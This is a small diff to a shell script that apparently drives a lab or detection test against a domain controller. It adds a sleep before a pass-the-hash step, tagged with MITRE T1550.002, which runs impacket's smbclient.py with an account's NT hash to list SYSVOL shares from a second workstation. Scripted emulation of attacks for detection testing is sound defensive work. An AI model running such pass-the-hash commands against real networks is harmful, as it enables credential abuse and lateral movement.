@@ -220,6 +220,7 @@ sc_pth() {
        "benign part: password, SMB2 NTLMv2, sysvol listing" -- \
        smbc smbclient //$DC_FQDN/sysvol -U "$DOMAIN/eve.admin%$(pw eve.admin)" --use-kerberos=disabled -c ls
   printf 'shares\nexit\n' > "$CLDIR/loot/shares.txt"
+  sleep 3   # the hash is used later, after a learning period of a few seconds has ended
   SRC=$CL2_IP step pth_smbclient_ws02 eve.admin "pass-the-hash: impacket smbclient.py -hashes (NTLM over SMB) from WS02" T1550.002 \
        "SYSVOL|NETLOGON|IPC" "NTLMv2 session setup computed from the NT hash, no password" -- \
        imp2 smbclient.py -hashes ":$(nthash "$(pw eve.admin)")" -inputfile "$CLDIR/loot/shares.txt" "$DNSDOMAIN/eve.admin@$DC_IP"
